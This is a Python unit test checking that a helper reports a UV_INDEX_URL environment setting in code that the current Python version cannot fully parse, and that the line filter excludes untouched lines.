def test_python_settings_in_code_this_python_cannot_parse_are_shown_as_written() -> None:
    """A newer Python may run what this one cannot parse: each touched line naming a source variable counts."""
    from hallucheck.sources.index_settings import code_environment_settings

    code = 'import os\ntype Url = str\nos.environ["UV_INDEX_URL"] = "https://h.example/simple"\nPIP_X = 1\ndef f(:\n'
    found = [(item.line, item.setting, item.value) for item in code_environment_settings(code)]
    assert found == [(3, "UV_INDEX_URL", 'os.environ["UV_INDEX_URL"] = "https://h.example/simple"')]
    assert code_environment_settings(code, {1, 2, 4}) == []
